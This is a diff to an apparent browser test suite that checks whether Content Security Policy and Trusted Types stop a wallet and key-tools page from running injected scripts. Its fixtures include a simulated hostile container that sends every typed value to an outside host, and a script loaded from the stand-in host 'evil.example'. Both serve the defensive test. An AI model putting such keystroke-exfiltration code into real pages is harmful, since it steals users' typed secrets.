@@ -8,14 +8,13 @@ const TAG_HOST = 'www.googletagmanager.com';
 /** Simulates a hostile container: anything typed anywhere is sent to its host. */
 const CONTAINER = `window.tagManagerRan = 1;
 addEventListener('input', ({ target }) => fetch('https://${TAG_HOST}/typed?' + target.value), true);`;
-const BLOCKED = /Content Security Policy|violates the following/;
+const BLOCKED = /Content Security Policy|violates the following|requires 'TrustedScriptURL'/;
 const SECRET_TEXT = 'abandon ability able';
 
 /** An element that only a page for secrets shows, once it has hydrated. */
-const part = (path: string) =>
-  path === WALLET_PATH ? '[href="https://wallet.atto.cash"]' : '[data-key-tools] [role="tab"]';
-/** The same, and the wallet's heading, on any page. */
-const ANY_PART = '[data-key-tools] [role="tab"], main [href="https://wallet.atto.cash"]';
+const part = (path: string) => (path === WALLET_PATH ? '[data-wallet] h1' : '[data-key-tools] [role="tab"]');
+/** The same on any page. */
+const ANY_PART = '[data-key-tools] [role="tab"], [data-wallet]';
 
 const spellingsOf = (path: string) => {
   const end = path.charCodeAt(path.length - 1).toString(16);
@@ -190,10 +189,15 @@ test.describe('on a host that ignores the headers of the build', () => {
         );
         const loaded = await new Promise((resolve) => {
           const script = document.createElement('script');
-          script.src = 'https://evil.example/script.js';
           script.onload = () => resolve('loaded');
           script.onerror = () => resolve('refused');
-          document.head.append(script);
+          try {
+            script.src = 'https://evil.example/script.js';
+            document.head.append(script);
+          } catch {
+            // Trusted Types.
+            resolve('refused');
+          }
         });
         return [requested, loaded];
       });
